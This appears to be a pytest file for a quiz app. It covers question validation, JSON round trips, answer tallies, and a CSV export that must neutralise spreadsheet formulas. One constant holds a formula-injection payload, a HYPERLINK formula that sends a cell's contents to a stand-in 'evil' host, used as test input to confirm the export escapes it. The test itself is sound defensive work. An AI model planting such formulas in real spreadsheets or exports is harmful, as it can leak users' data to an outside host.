"""What counts as a question and as an answer, and what a spreadsheet makes of the answers."""

import csv
import io
from typing import Any

import pytest

from inception.rooms.errors import AnswerError
from inception.rooms.export import COLUMNS, answers_csv
from inception.rooms.questions import LONGEST_TEXT, Kind, Question, Tally

from ..reference import assert_one_sentence

FORMULA = '=HYPERLINK("http://evil"&A1)'


@pytest.mark.parametrize(
    "bad",
    [
        {"kind": Kind.NUMBER, "text": " "},
        {"kind": Kind.NUMBER, "text": "x" * (LONGEST_TEXT + 1)},
        {"kind": Kind.CHOICE, "text": "?", "options": ("one",)},
        {"kind": Kind.CHOICE, "text": "?", "options": ("same", "same")},
        {"kind": Kind.CHOICE, "text": "?", "options": tuple(map(str, range(9)))},
        {"kind": Kind.CHOICE, "text": "?", "options": ("a", "b" * 101)},
        {"kind": Kind.CHOICE, "text": "?", "options": ("a", "b"), "truth": 2},
        {"kind": Kind.PLACE, "text": "?"},
        {"kind": Kind.PLACE, "text": "?", "picture": "cat", "truth": (1.1, 0)},
    ],
)
def test_a_bad_question_is_one_sentence(bad: dict[str, Any]) -> None:
    with pytest.raises(AnswerError) as caught:
        Question(**bad)
    assert_one_sentence(caught.value)


@pytest.mark.parametrize(
    "question",
    [
        Question(Kind.NUMBER, "How many?", truth=-2.5),
        Question(Kind.CHOICE, "哪一个？", ("一", "二"), truth=0),
        Question(Kind.PLACE, "Where?", picture="cat", truth=(0.25, 1.0)),
    ],
)
def test_a_question_comes_back_from_the_database(question: Question) -> None:
    assert Question.from_json(question.to_json()) == question


def test_a_tally_counts() -> None:
    tally = Tally.of(Question(Kind.CHOICE, "?", ("a", "b", "c")), [2, 0, 2])
    assert (tally.counts, tally.answers) == ([1, 0, 2], (0, 2, 2))
    assert Tally.of(Question(Kind.NUMBER, "?"), []).median is None


def test_a_spreadsheet_gets_every_answer_and_no_formula() -> None:
    tallies = [
        Tally.of(Question(Kind.NUMBER, "How many?", truth=3), [-7, 2.5]),
        Tally.of(Question(Kind.CHOICE, FORMULA, (FORMULA, "\t@x", "、，"), truth=2), [1, 0, 2]),
        Tally.of(Question(Kind.PLACE, " +1", picture="cat"), [(0.5, 0.25)]),
    ]
    rows = list(csv.DictReader(io.StringIO(answers_csv(tallies).decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert [(row["question"], row["answer"]) for row in rows] == [
        ("1", "-7"),  # a number, not a formula
        ("1", "2.5"),
        ("2", f"'{FORMULA}"),
        ("2", "'\t@x"),
        ("2", "、，"),
        ("3", "cat"),
    ]
    assert [row["truth"] for row in rows] == ["3", "3", "、，", "、，", "、，", ""]
    assert (rows[-1]["x"], rows[-1]["y"]) == ("0.5", "0.25")
    texts = [value for row in rows for name, value in row.items() if name in ("text", "answer")]
    assert not any(value.lstrip().startswith(("=", "+", "@")) for value in texts)
